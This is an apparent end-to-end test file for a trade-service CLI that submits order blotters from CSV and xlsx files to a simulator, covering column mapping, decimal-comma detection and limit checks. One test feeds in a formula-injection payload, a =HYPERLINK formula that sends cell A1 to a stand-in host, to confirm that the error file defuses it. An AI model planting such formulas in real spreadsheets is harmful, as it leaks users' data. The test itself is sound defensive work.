"""`trade-service submit` reads other spreadsheets than its own, and asks before it trusts what it detected."""

import csv

from execution_simulator.server import RunningSimulator
from tests.blotters.workbooks import xlsx
from tests.e2e.command import Cli, order


async def test_other_columns_and_constants(cli: Cli, simulator: RunningSimulator) -> None:
    (cli.folder / "desk.csv").write_text("No;Wer;Side;Ticker;Qty;Price\n1;P1;Bought;AAPL;100;190.25\n")
    mapped = ("--map", "No=order_id", "--map", "Wer=portfolio_id", "--set", "destination=JPM")
    unclear = await cli.run("submit", "--yes", "desk.csv", *mapped)
    assert unclear.code == 2
    assert "could be the limit price of an order" in unclear.complaint
    ended = await cli.run("submit", "--yes", "desk.csv", *mapped, "--map", "Price=limit_price")
    assert ended.code == 0, ended
    assert "order_type from 'Side'" in ended.err
    assert "destination is 'JPM'" in ended.err
    assert simulator.ledger.total == 1


async def test_a_detected_decimal_comma_is_confirmed(cli: Cli, simulator: RunningSimulator) -> None:
    header = "order_id;portfolio_id;order_type;security_id;quantity;limit_price;destination\n"
    (cli.folder / "german.csv").write_text(f"{header}1;P1;Kauf;710000;2.500;189,50;ML\nSumme;;;;2.500;;\n")
    asked = await cli.run("submit", "german.csv")
    assert asked.code == 2
    assert "give --yes" in asked.err
    assert "detected: the decimal comma, as in 189,50" in asked.err
    assert simulator.ledger.total == 0
    dry = await cli.run("submit", "german.csv", "--dry-run")
    assert dry.code == 0, dry
    ended = await cli.run("submit", "german.csv", "--yes")
    assert ended.code == 0, ended
    assert "1 rows are no orders and were left out, the first at 3: 'Summe 2.500'" in ended.err
    (row,) = simulator.ledger.get(1)
    assert row.quantity == 2500


async def test_a_workbook_is_submitted(cli: Cli, simulator: RunningSimulator) -> None:
    header = ("Order ID", "Portfolio", "Side", "Ticker", "Qty", "Broker")
    content = xlsx(
        {"Orders": [header, (1, "P1", "B", "AAPL", 100, "ML"), (2, "P1", "S", ("error", "#N/A"), 5, "ML")]}
    )
    (cli.folder / "orders.xlsx").write_bytes(content)
    ended = await cli.run("submit", "--yes", "orders.xlsx")
    assert ended.code == 1, ended
    assert "row 3, Ticker: must be a plain value, and it is an error of a spreadsheet" in ended.out
    assert simulator.ledger.total == 1


async def test_another_destination_is_a_bad_line(cli: Cli, simulator: RunningSimulator) -> None:
    assert (await cli.run("submit", "--yes", cli.write(order(1)))).code == 0
    again = cli.write(order(1, destination="JPM"), order(2))
    for arguments in (("--dry-run",), ()):
        ended = await cli.run("submit", "--yes", again, *arguments)
        assert ended.code == 1, ended
        assert "line 2, order_id: 1 is taken by an order with another destination" in ended.out
    assert simulator.ledger.total == 2


async def test_no_formula_reaches_the_file_of_errors(cli: Cli) -> None:
    blotter = cli.write(
        '1,P1,BUY,AAPL,"=HYPERLINK(""http://example.invalid/?""&A1)",,,ML', "2,P1,BUY,AAPL,-5,,,ML"
    )
    ended = await cli.run("submit", "--dry-run", blotter, "--errors", "bad.csv")
    assert ended.code == 1, ended
    rows = list(csv.DictReader((cli.folder / "bad.csv").read_text().splitlines()))
    assert [row["value"][:4] for row in rows] == ["'=HY", "'-5"]


async def test_a_file_of_too_great_a_value_is_refused_before_its_first_order(
    cli: Cli, simulator: RunningSimulator
) -> None:
    limited = cli.under(
        TRADE_SERVICE_BLOTTER_MAX_BATCH_VALUE="30000", TRADE_SERVICE_BLOTTER_MAX_ORDER_QUANTITY="1000"
    )
    ended = await limited.run("submit", "--yes", cli.write(order(1), order(2)))
    assert ended.code == 2, ended
    assert "its orders are worth more than 30,000 together (blotter.max_batch_value)" in ended.complaint
    assert simulator.ledger.total == 0
    ended = await limited.run("submit", "--yes", cli.write(order(1), order(2, "1001")))
    assert ended.code == 1, ended
    assert "line 3, quantity: must be at most 1,000 (blotter.max_order_quantity)" in ended.out
    assert simulator.ledger.total == 1


async def test_a_file_that_is_refused_far_down_sends_nothing(cli: Cli, simulator: RunningSimulator) -> None:
    lines = [order(number) for number in range(1, 1201)]
    ended = await cli.run("submit", "--yes", cli.write(*lines, "Cancelled orders", order(1201)))
    assert ended.code == 2, ended
    assert "Cancelled orders" in ended.complaint
    assert simulator.ledger.total == 0
